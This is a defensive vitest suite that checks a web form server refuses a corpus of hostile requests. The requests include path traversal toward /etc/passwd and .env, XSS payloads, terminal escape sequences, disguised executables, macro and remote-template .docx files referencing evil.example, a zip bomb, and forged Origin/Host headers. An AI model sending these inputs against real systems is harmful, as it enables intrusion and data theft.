/**
 * The hostile corpus: what an attacker would send, against the production server (nothing in front of it). Every
 * refusal must come with the right status, a clear message, the security headers, and leave nothing behind: no
 * row, no file (temporary or kept), no e-mail; and the server's log must show no uncaught error (Server.stop
 * checks). The accepted-but-neutralised cases (hostile names on real files) are at the end.
 */
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { Readable } from 'node:stream';
import CFB from 'cfb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_FILE_BYTES } from '../../src/lib/forms/limits.mjs';
import { DOCX_MAIN, docxFile, EXE_HEAD, formParts, zipBytes, listDir, Multipart, pdf, PNG_HEAD, post, startServer, type Answer, type FilePart, type Part, type Server } from './harness';
import { openEmbedded } from './staff-helpers';
import { application, enquiry } from './suite';

const MB = 1024 * 1024;
let server: Server;
/** Submissions the corpus expects to be stored (only the neutralised cases at the end). */
const accepted: string[] = [];

beforeAll(async () => {
  // Nothing in front: no proxy is trusted, every request comes from the test's own address.
  server = await startServer({ TRUST_PROXY: '', RATE_LIMIT_MAX: '100000' });
}, 90_000);
afterAll(async () => {
  await server?.stop(); // fails the run when the log shows an uncaught error
}, 60_000);

const dirs = () => ({ tmp: path.join(server.dataDir, 'tmp'), uploads: path.join(server.dataDir, 'uploads'), mail: path.join(server.dataDir, 'mail') });

type Snapshot = { uploads: string[]; mail: string[] };
async function snapshot(): Promise<Snapshot> {
  return { uploads: await listDir(dirs().uploads), mail: await listDir(dirs().mail) };
}

const SECURITY_HEADERS = ['strict-transport-security', 'x-content-type-options', 'x-frame-options', 'referrer-policy', 'permissions-policy', 'content-security-policy'];
function expectSecurityHeaders(a: Answer) {
  for (const name of SECURITY_HEADERS) expect(a.headers[name], `${name} on a ${a.status}`).toBeTruthy();
  expect(a.headers['x-content-type-options']).toBe('nosniff');
}

/** Sends, then checks the status, the headers, and that nothing was kept (temp folder empty, no new file or mail). */
async function refusal(send: () => Promise<Answer | 'aborted'>, status: number, body?: RegExp | Record<string, unknown>): Promise<Answer> {
  const before = await snapshot();
  const answer = await send();
  expect(answer, 'the client saw a reset instead of an answer').not.toBe('aborted');
  const a = answer as Answer;
  expect(a.status, a.body).toBe(status);
  expectSecurityHeaders(a);
  if (body instanceof RegExp) expect(a.body).toMatch(body);
  else if (body) expect(a.json()).toMatchObject(body);
  // Temp folders go when the request ends; give a refused upload's background drop a moment.
  for (let i = 0; i < 50 && (await listDir(dirs().tmp)).length; i++) await new Promise((r) => setTimeout(r, 100));
  expect(await listDir(dirs().tmp)).toEqual([]);
  expect(await snapshot()).toEqual(before);
  return a;
}
const refused = async (...args: Parameters<typeof refusal>): Promise<void> => {
  await refusal(...args);
};

const url = (p: string) => `${server.url}${p}`;
const form = (route: string, fields: Record<string, string>, files: FilePart[] = [], opts: Parameters<typeof post>[1] extends infer O ? Partial<O> : never = {}) => () =>
  post(url(route), { body: new Multipart(formParts(fields, files)), address: '', ...opts });
const raw = (route: string, body: Buffer | string, contentType: string | undefined, headers: Record<string, string> = {}) => () =>
  post(url(route), { body: Buffer.from(body), contentType, address: '', headers });
const bare = (method: string, p: string, headers: Record<string, string> = {}) => () => post(url(p), { method, body: Buffer.alloc(0), address: '', headers });

const asFile = (name: string, bytes: Buffer): FilePart => ({ name, size: bytes.length, head: bytes });
/** A well-formed .docx's entries (harness.docxFile), to add something hostile to. */
async function docxEntries() {
  const { default: yauzl } = await import('yauzl');
  const bytes = (await docxFile('x.docx')).head as Buffer;
  const zip = await new Promise<import('yauzl').ZipFile>((resolve, reject) => yauzl.fromBuffer(bytes, { lazyEntries: true }, (e, z) => (e || !z ? reject(e) : resolve(z))));
  const entries: { name: string; data: Buffer }[] = [];
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: import('yauzl').Entry) =>
      zip.openReadStream(entry, (err, stream) => {
        if (err || !stream) return reject(err);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c)).on('end', () => {
          entries.push({ name: entry.fileName, data: Buffer.concat(chunks) });
          zip.readEntry();
        });
      }),
    );
    zip.on('end', () => resolve());
    zip.readEntry();
  });
  return entries;
}

const CONTENT_TYPES = `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/></Types>`;

describe('malformed multipart bodies', () => {
  const m = new Multipart(formParts(enquiry, [pdf('a.pdf', 5000)]));
  const whole = Buffer.concat([...m.chunks()]);
  it.each<[string, () => Promise<Answer | 'aborted'>]>([
    ['no content type', raw('/api/contact', whole, undefined)],
    ['multipart without a boundary', raw('/api/contact', whole, 'multipart/form-data')],
    ['a boundary the body does not use', raw('/api/contact', whole, 'multipart/form-data; boundary=----other')],
    ['text/plain', raw('/api/contact', 'name=Sam', 'text/plain')],
    ['JSON to a multipart route', raw('/api/contact', JSON.stringify(enquiry), 'application/json')],
    ['urlencoded to a multipart route', raw('/api/submit', new URLSearchParams(application).toString(), 'application/x-www-form-urlencoded')],
    ['an empty multipart body', raw('/api/contact', '', m.contentType)],
    ['a truncated last part (no closing boundary)', raw('/api/contact', whole.subarray(0, whole.length - 200), m.contentType)],
    ['only a preamble', raw('/api/contact', 'just some text, no parts', m.contentType)],
  ])('%s: 400', async (_, send) => {
    await refused(send, 400);
  });

  it.each([
    ['another key', 'file'],
    ['a fullwidth look-alike of "upload"', 'ｕｐｌｏａｄ'],
  ])('a file under %s: 400', async (_, field) => {
    const parts: Part[] = [...formParts(enquiry), { field, file: pdf('a.pdf', 2000) }];
    await refused(() => post(url('/api/contact'), { body: new Multipart(parts), address: '' }), 400, /under the key \\"upload\\"/);
  });

  it('a control character written raw in a part header: 400', async () => {
    const parts: Part[] = [...formParts(enquiry), { field: 'upload', file: { ...pdf('cv.pdf', 2000), filenameParam: 'filename="cv\u0001.pdf"' } }];
    await refused(() => post(url('/api/contact'), { body: new Multipart(parts), address: '' }), 400, /Malformed/);
  });

  it('a chunked body cut off mid-way leaves nothing', async () => {
    const before = await snapshot();
    const body = new Multipart(formParts(application, [pdf('cv.pdf', 4 * MB)]));
    const r = await post(url('/api/submit'), { body: body.chunks(), contentType: body.contentType, cutAfter: 2 * MB, address: '' });
    expect(r).toBe('aborted');
    for (let i = 0; i < 100 && (await listDir(dirs().tmp)).length; i++) await new Promise((res) => setTimeout(res, 100));
    expect(await listDir(dirs().tmp)).toEqual([]);
    expect(await snapshot()).toEqual(before);
  });
});

describe('fields', () => {
  it('a duplicate field counts once: the first value', async () => {
    const parts: Part[] = [{ field: 'name', value: '' }, ...formParts(enquiry)];
    await refused(() => post(url('/api/contact'), { body: new Multipart(parts), address: '' }), 422, { fields: { name: 'Please enter your name' } });
  });
  it('a field over 10,000 bytes: 413', () => refused(form('/api/contact', { ...enquiry, project: 'x'.repeat(10_001) }), 413, /too long/));
  it('41 fields: 413', () => refused(form('/api/contact', { ...enquiry, ...Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`f${i}`, 'x'])) }), 413));
  it('a huge value in a capped field: 422', () => refused(form('/api/contact', { ...enquiry, project: 'y'.repeat(9_000) }), 422, { fields: { project: 'Project description cannot exceed 2000 characters' } }));

  const oneLine: [string, string, Record<string, string>, string][] = [
    ['name', '/api/submit', application, 'Name'],
    ['email', '/api/submit', application, 'Email'],
    ['location', '/api/submit', application, 'Location'],
    ['position', '/api/submit', application, 'Position'],
    ['salary', '/api/submit', application, 'Salary'],
    ['opportunity', '/api/submit', application, 'This answer'],
    ['company', '/api/contact', enquiry, 'Company name'],
    ['budget', '/api/contact', enquiry, 'Budget'],
    ['timeline', '/api/contact', enquiry, 'Timeline'],
    ['referral', '/api/contact', enquiry, 'This answer'],
  ];
  it.each(oneLine)('an escape sequence in %s (%s) is refused with the field’s message', async (field, route, fields, label) => {
    const value = field === 'email' ? 'sam\x1b[2J@acme.test' : field === 'budget' ? '1\x1b[2J' : `${fields[field] || 'x'}\x1b[2J`.slice(-18);
    const files = route === '/api/submit' ? [pdf('cv.pdf', 1000)] : [];
    await refused(form(route, { ...fields, [field]: value }, files), 422, { fields: { [field]: `${label} cannot contain control, invisible or text-direction characters` } });
  });
  it.each([
    ['a right-to-left override', 'Sam\u202Eevil'],
    ['a first-strong isolate', 'Sam\u2068x\u2069'],
    ['a C1 control (CSI)', 'Sam\u009b2J'],
    ['a line separator', 'Sam\u2028Lee'],
    ['a forged line', 'Sam\nemail: x@y.z'],
    ['a NUL', 'Sam\u0000'],
  ])('%s in a name is refused', (_, name) =>
    refused(form('/api/contact', { ...enquiry, name }), 422, { fields: { name: 'Name cannot contain control, invisible or text-direction characters' } }),
  );
  it('invisible characters are refused, and a required field of invisible characters alone is empty', async () => {
    await refused(form('/api/contact', { ...enquiry, budget: '\u200b' }), 422, { fields: { budget: 'Please enter your budget' } });
    await refused(form('/api/contact', { ...enquiry, budget: '\u200d' }), 422, { fields: { budget: 'Please enter your budget' } });
    await refused(form('/api/contact', { ...enquiry, name: 'Sam\u200fLee' }), 422, { fields: { name: 'Name cannot contain control, invisible or text-direction characters' } });
  });

  it('the phone and date fields refuse controls through their formats', async () => {
    await refused(form('/api/contact', { ...enquiry, phone: '123\x1b[2J' }), 422, { fields: { phone: 'Invalid phone number format' } });
    await refused(form('/api/submit', { ...application, startDate: '01-09-2026\x07' }, [pdf('cv.pdf', 1000)]), 422);
  });
  it('links refuse controls', () =>
    refused(form('/api/submit', { ...application, portfolio: 'https://ayesha.dev/\x1b[2J' }, [pdf('cv.pdf', 1000)]), 422, {
      fields: { portfolio: 'Portfolio link cannot contain control, invisible or text-direction characters' },
    }),
  );
});

describe('files', () => {
  it('11 files: 413', () => refused(form('/api/submit', application, Array.from({ length: 11 }, (_, i) => pdf(`f${i}.pdf`, 1000, i))), 413, /at most 10/));
  it('one byte over 25 MiB: 413', () => refused(form('/api/submit', application, [pdf('big.pdf', MAX_FILE_BYTES + 1)]), 413, /25MB/));
  it('one byte over 100 MiB in total: 413', () =>
    refused(form('/api/submit', application, [...Array.from({ length: 4 }, (_, i) => pdf(`p${i}.pdf`, MAX_FILE_BYTES, i)), pdf('one-more.pdf', 1)]), 413, /100MB/));
  it('a body declared far over the limit is refused at once, and the client reads the 413 while still sending', () =>
    refused(
      () => {
        const body = new Multipart(formParts(application, [pdf('huge.pdf', 300 * MB)]));
        return post(url('/api/submit'), { body: body.chunks(), contentType: body.contentType, address: '', headers: { 'content-length': String(body.length) } });
      },
      413,
      /100MB/,
    ));

  const forged: [string, FilePart][] = [
    ['an executable named cv.pdf (a small one, as the issue found)', { name: 'cv.pdf', size: 8, head: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1') }],
    ['an executable named cv.pdf', { name: 'cv.pdf', size: 50_000, head: EXE_HEAD }],
    ['an ELF binary', { name: 'notes.txt', size: 2000, head: Buffer.from('\x7fELF\x02\x01\x01', 'latin1') }],
    ['HTML named .txt', { name: 'cover.txt', size: 60, head: Buffer.from('<!DOCTYPE html><script>alert(document.cookie)</script>') }],
    ['SVG named .png', { name: 'logo.png', size: 70, head: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>') }],
    ['text with an escape sequence', { name: 'cv.txt', size: 20, head: Buffer.from('Hello\x1b[2J\x1b[31mworld') }],
    ['text with an escape sequence after 70 KB of letters', asFile('notes.txt', Buffer.concat([Buffer.alloc(70_000, 'a'), Buffer.from('\x1b[2J\x1b]0;pwned\x07')]))],
    ['text with a C1 control (CSI) after 40 KB', asFile('notes.txt', Buffer.concat([Buffer.alloc(40_000, 'b'), Buffer.from('x\u009b2J', 'utf8')]))],
    ['text with a bidi override', asFile('report.txt', Buffer.from('Invoice for report\u202eexe.txt', 'utf8'))],
    ['text that turns into a web page', asFile('letter.txt', Buffer.from('Dear team,\nplease see below.\n<img src=x onerror=alert(1)>'))],
    ['text cut in the middle of a character', asFile('letter.txt', Buffer.from([0x61, 0x62, 0xe2, 0x82]))],
    ['RTF embedding an object', asFile('cv.rtf', Buffer.from('{\\rtf1\\ansi Hello {\\object\\objemb{\\*\\objdata 0105000002000000}}}'))],
    ['an empty file', { name: 'empty.pdf', size: 0 }],
  ];
  it.each(forged)('%s: 415', (_, file) => refused(form('/api/submit', application, [file]), 415, /not an accepted file type/));

  it.each<[string, () => Promise<Buffer>]>([
    ['a bare ZIP', () => zipBytes([{ name: 'payload.exe', data: 'MZ' }])],
    ['a .docx with an executable inside', () => zipBytes([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'evil.exe', data: 'MZ\x90' }])],
    ['a ZIP with only word/payload.js', () => zipBytes([{ name: 'word/payload.js', data: 'alert(1)' }])],
    ['a .docx with macros', () => zipBytes([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'word/vbaProject.bin', data: 'x' }])],
    ['a .docx whose main part is missing', () => zipBytes([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/other.xml', data: '<w:document/>' }])],
    ['an .odt with the wrong mimetype', () => zipBytes([{ name: 'mimetype', data: 'application/x-msdownload', store: true }, { name: 'content.xml', data: '<x/>' }])],
    [
      'a ZIP whose content types are only a comment',
      () =>
        zipBytes([
          { name: '[Content_Types].xml', data: `<!-- ${CONTENT_TYPES} -->` },
          { name: 'word/document.xml', data: '<html><script>alert(1)</script></html>' },
        ]),
    ],
    [
      'a .docx fetching a remote template',
      async () =>
        zipBytes([
          ...(await docxEntries()),
          { name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' },
        ]),
    ],
    ['a .docx holding another archive', async () => zipBytes([...(await docxEntries()), { name: 'word/media/image1.png', data: Buffer.from('PK\x03\x04 evil.exe', 'latin1') }])],
    ['a .docx hiding a script behind a trailing dot', async () => zipBytes([...(await docxEntries()), { name: 'word/evil.vbs.', data: 'MsgBox 1' }])],
    [
      'a zip bomb',
      () =>
        zipBytes([
          { name: '[Content_Types].xml', data: CONTENT_TYPES },
          { name: 'word/document.xml', data: '<w:document/>' },
          {
            name: 'word/media/zeros.png',
            data: Readable.from(
              (function* () {
                const zeros = Buffer.alloc(MB);
                for (let i = 0; i < 251; i++) yield zeros;
              })(),
            ),
          },
        ]),
    ],
  ])('%s named .docx: 415', async (_, make) => {
    const bytes = await make();
    await refused(form('/api/contact', enquiry, [asFile('brief.docx', bytes)]), 415, /not an accepted file type/);
  });
});

describe('old Word files', () => {
  const ole = (streams: Record<string, string>) => {
    const container = CFB.utils.cfb_new();
    for (const [name, data] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${name}`, Buffer.from(data));
    return CFB.write(container, { type: 'buffer' }) as Buffer;
  };
  it.each([
    ['an installer (an OLE file that is no Word document)', 'setup.doc', { SummaryInformation: 'x', '!_StringData': 'msi' }],
    ['a spreadsheet named .doc', 'book.doc', { Workbook: 'x' }],
    ['a Word file with macros', 'cv.doc', { WordDocument: 'w', 'Macros/VBA/dir': 'x' }],
  ])('%s: 415', async (_, name, streams) => {
    await refused(form('/api/contact', enquiry, [asFile(name, ole(streams))]), 415, /not an accepted file type/);
  });
});

describe('origins', () => {
  it.each<[string, Record<string, string>]>([
    ['another site', { origin: 'https://evil.example' }],
    ['another port on this machine (without SITE_URL only this server\'s own origins pass)', { origin: 'http://localhost:3000' }],
    ['an opaque origin', { origin: 'null' }],
    ['a malformed origin', { origin: 'http://' }],
    // What a browser sends for a look-alike host: its punycode.
    ['a look-alike host (Cyrillic o)', { origin: new URL('http://lоcalhost:3000').origin }],
    ['a browser-marked cross-site post without Origin', { origin: '', 'sec-fetch-site': 'cross-site' }],
  ])('%s: 403', (_, headers) => refused(form('/api/contact', enquiry, [], { headers }), 403, /Cross-site/));

  it('a forged Host with a matching Origin (DNS rebinding): 403', async () => {
    await refused(form('/api/contact', enquiry, [], { headers: { host: 'evil.example', origin: 'http://evil.example' } }), 403, /Cross-site/);
    await refused(form('/api/contact', enquiry, [], { headers: { 'x-forwarded-host': 'evil.example', origin: 'http://evil.example' } }), 403, /Cross-site/);
  });
});

describe('methods', () => {
  it.each([
    ['TRACE', '/api/contact', 'OPTIONS, POST'],
    ['PUT', '/api/submit', 'OPTIONS, POST'],
    ['DELETE', '/api/pricing', 'OPTIONS, POST'],
    ['PATCH', '/api/contact', 'OPTIONS, POST'],
    ['PROPFIND', '/api/contact', 'OPTIONS, POST'],
    ['GET', '/api/contact', 'OPTIONS, POST'],
    ['POST', '/', 'GET, HEAD'],
    ['DELETE', '/about', 'GET, HEAD'],
    ['TRACE', '/work/coral', 'GET, HEAD'],
    ['OPTIONS', '/careers', 'GET, HEAD'],
  ])('%s %s: 405 with Allow: %s', async (method, p, allow) => {
    const a = await refusal(bare(method, p), 405);
    expect(a.headers.allow).toBe(allow);
  });
});

describe('addresses', () => {
  it.each([
    ['/work/%E0%A4%A', 400],
    ['/work/%C0%AF (an overlong UTF-8 slash)', 400],
    ['/expertise/%', 400],
    ['/%00', 400],
    ['/work/coral%00', 400],
    ['/api/contact%00', 400],
    ['/about%5c..%5c..%5cetc%5cpasswd', 400],
    ['/..%2f..%2fetc/passwd', 404],
    ['/_next/static/..%2f..%2fpackage.json', 404],
    ['/media/..%2f..%2f.env', 404],
    ['/work/does-not-exist', 404],
    ['/aaaa… (9,000 characters)', 400],
  ])('GET %s: %i with the security headers', async (label, status) => {
    const p = label.startsWith('/aaaa') ? `/${'a'.repeat(9000)}` : label.split(' ')[0];
    await refused(bare('GET', p), status);
  });

  it('a doubled slash is redirected on this site, never to another host', async () => {
    const a = await refusal(bare('GET', '//evil.example/'), 308);
    expect(a.headers.location).toMatch(/^\/[^/]/);
  });

  it('a redirect carries the security headers', async () => {
    const a = await refusal(bare('GET', '/offers/docker'), 308);
    expect(a.headers.location).toBe('/expertise/docker');
  });

  it('headers over 16 KB: 431', () => refused(bare('GET', '/', { cookie: 'c'.repeat(20_000) }), 431));
});

/** One raw exchange on a fresh connection: what the server answered, and whether it closed the connection. */
function rawExchange(request: string | Buffer, waitMs = 3_000): Promise<{ text: string; closed: boolean }> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: '127.0.0.1', port: server.port });
    let text = '';
    let done = false;
    const finish = (closed: boolean) => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve({ text, closed });
    };
    socket.on('data', (d) => (text += d.toString('latin1')));
    socket.on('close', () => finish(true));
    socket.on('error', () => finish(true));
    socket.on('connect', () => socket.write(request));
    setTimeout(() => finish(false), waitMs);
  });
}
const statusOf = (text: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);

describe('the edge', () => {
  it('a page reached through dot segments is still a page: 405 for POST, never Next\'s page or action code', async () => {
    for (const target of ['/api/../about', '/api/%2e%2e/careers', '/api/./../work']) {
      const { text } = await rawExchange(`POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nNext-Action: 7f00\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]`);
      expect(statusOf(text), target).toBe(405);
      expect(text).toMatch(/\r\nallow: GET, HEAD\r\n/i);
      expect(text).toMatch(/X-Frame-Options: DENY/i);
    }
    expect(server.output()).not.toMatch(/Server Action|Server Reference/);
  });

  it('a forged server-action header on a page changes nothing', async () => {
    const a = await refusal(bare('GET', '/about', { 'next-action': '7f0000000000000000000000000000000000000000' }), 200);
    expect(a.body).toContain('<html');
    expect(server.output()).not.toMatch(/Server Action|Server Reference/);
  });

  it('a client that pipelines dozens of requests on one connection is cut off, and others are served meanwhile', async () => {
    const flood = rawExchange(Buffer.from('GET /careers HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(200)), 10_000);
    const other = await refusal(bare('GET', '/robots.txt'), 200);
    expect(other.body).toContain('Sitemap');
    const { text, closed } = await flood;
    expect(closed).toBe(true);
    expect((text.match(/HTTP\/1\.1 200/g) ?? []).length).toBeLessThanOrEqual(4);
  });

  it.each(['/_next/webpack-hmr', '/_next/static/x', '/nonexistent'])('a WebSocket upgrade to %s is answered at once, not held open', async (target) => {
    const { text, closed } = await rawExchange(
      `GET ${target} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
    expect(statusOf(text)).toBe(404);
    expect(text).toMatch(/X-Content-Type-Options: nosniff/i);
    expect(closed || text.length > 0).toBe(true);
  });

  it('an upgrade to a malformed address gets 400', async () => {
    const { text } = await rawExchange('GET /work/%E0%A4%A HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n');
    expect(statusOf(text)).toBe(400);
    expect(server.output()).not.toMatch(/Error handling upgrade/);
  });

  it('a request without Host gets 400, and an unknown Expect 417, both with the security headers', async () => {
    const noHost = await rawExchange('GET / HTTP/1.1\r\nConnection: close\r\n\r\n');
    expect(statusOf(noHost.text)).toBe(400);
    expect(noHost.text).toMatch(/Strict-Transport-Security/i);
    const expectation = await rawExchange('POST /api/contact HTTP/1.1\r\nHost: x\r\nExpect: foo\r\nContent-Length: 3\r\nConnection: close\r\n\r\nx=1');
    expect(statusOf(expectation.text)).toBe(417);
    expect(expectation.text).toMatch(/Strict-Transport-Security/i);
  });

  it.each<[string, Record<string, string>]>([
    ['a malformed range', { range: 'bytes=abc' }],
    ['a range past the end', { range: 'bytes=99999999999-' }],
    ['a backwards range', { range: 'bytes=5-1' }],
    ['a failed If-Match', { 'if-match': '"nope"' }],
    ['a past If-Unmodified-Since', { 'if-unmodified-since': 'Mon, 01 Jan 1990 00:00:00 GMT' }],
  ])('a static file with %s is served whole, never a 500', async (_, headers) => {
    for (const p of ['/media/video/flow/poster.webp', '/media/video/flow/original.mp4']) await refused(bare('GET', p, headers), 200);
  });

  it('a satisfiable range of a static file is still served as a range', async () => {
    const a = await refusal(bare('GET', '/media/video/flow/original.mp4', { range: 'bytes=0-99' }), 206);
    expect(a.headers['content-range']).toMatch(/^bytes 0-99\//);
  });
});

describe('JSON bodies (the pricing request)', () => {
  const good = { name: 'Sam Lee', email: 'sam@acme.test', services: [] as unknown[] };
  it.each<[string, () => Promise<Answer | 'aborted'>, number]>([
    ['not JSON', raw('/api/pricing', 'name=Sam', 'application/x-www-form-urlencoded'), 400],
    ['malformed JSON', raw('/api/pricing', '{"name": ', 'application/json'), 400],
    ['a JSON array', raw('/api/pricing', '[1,2]', 'application/json'), 400],
    ['a JSON string', raw('/api/pricing', '"hello"', 'application/json'), 400],
    ['over 64 KB', raw('/api/pricing', JSON.stringify({ ...good, pad: 'x'.repeat(70_000) }), 'application/json'), 413],
    ['no service', raw('/api/pricing', JSON.stringify(good), 'application/json'), 422],
    ['an unknown key', raw('/api/pricing', JSON.stringify({ ...good, admin: true }), 'application/json'), 422],
    ['an escape sequence in the name', raw('/api/pricing', JSON.stringify({ ...good, name: 'Sam\u001b[2J' }), 'application/json'), 422],
    ['an unknown service', raw('/api/pricing', JSON.stringify({ ...good, services: [{ title: 'Hacker', selectedPeople: null, selectedPriceType: null, selectedLevel: null, skills: {} }] }), 'application/json'), 422],
  ])('%s', async (_, send, status) => {
    await refused(send, status);
  });
});

describe('the client address', () => {
  it('a 4,000-character X-Forwarded-For is ignored, and the request is answered as usual', () =>
    refused(form('/api/contact', { ...enquiry, name: '' }, [], { address: 'x'.repeat(4000) }), 422));
});

describe('hostile names on real files are neutralised, and the files kept', () => {
  it('stores them under ids, with display names that end with the detected type', async () => {
    const files: FilePart[] = [
      pdf('invoice.html', 4000, 1),
      pdf('../../../etc/passwd.pdf', 3000, 2),
      { ...pdf('cv.exe', 3000, 3), filenameParam: "filename*=utf-8''cv%00%1B%5B2J.exe" }, // NUL and an escape sequence
      pdf('report\u202Efdp.exe', 3000, 4),
      { name: 'photo․jpg', size: 3000, head: PNG_HEAD, seed: 5 }, // U+2024 ONE DOT LEADER, a look-alike dot
    ];
    const a = (await form('/api/submit', application, files)()) as Answer;
    expect(a.status, a.body).toBe(201);
    expectSecurityHeaders(a);
    accepted.push(a.json().id as string);
    const stored = await listDir(path.join(dirs().uploads, a.json().id as string));
    expect(stored.every((n) => /^[0-9a-f-]{36}$/.test(n))).toBe(true);
    const digests = await Promise.all(stored.map(async (n) => createHash('sha256').update(await readFile(path.join(dirs().uploads, a.json().id as string, n))).digest('hex')));
    expect(digests).toHaveLength(5);
  });
});

describe('the end of the corpus', () => {
  it('kept exactly what was accepted: rows, files and mail', async () => {
    const mail = async () => (await listDir(dirs().mail)).filter((n) => n.endsWith('.eml'));
    // Each accepted submission: the staff e-mail and the sender's acknowledgement.
    for (let i = 0; i < 100 && (await mail()).length < 2 * accepted.length; i++) await new Promise((r) => setTimeout(r, 100));
    expect((await mail()).length).toBe(2 * accepted.length);
    expect(await listDir(dirs().uploads)).toEqual([...accepted].sort());
    await server.stop();
    const db = await openEmbedded(server.dataDir);
    try {
      expect((await db.query<{ id: string }>('SELECT id FROM submissions')).rows.map((r) => r.id).sort()).toEqual([...accepted].sort());
      const names = (await db.query<{ display_name: string }>('SELECT display_name FROM submission_files ORDER BY position')).rows.map((r) => r.display_name);
      expect(names).toEqual(['invoice.pdf', 'passwd.pdf', 'cv [2J.pdf', 'reportfdp.pdf', 'photo․jpg.png']);
    } finally {
      await db.close();
    }
  }, 60_000);
});
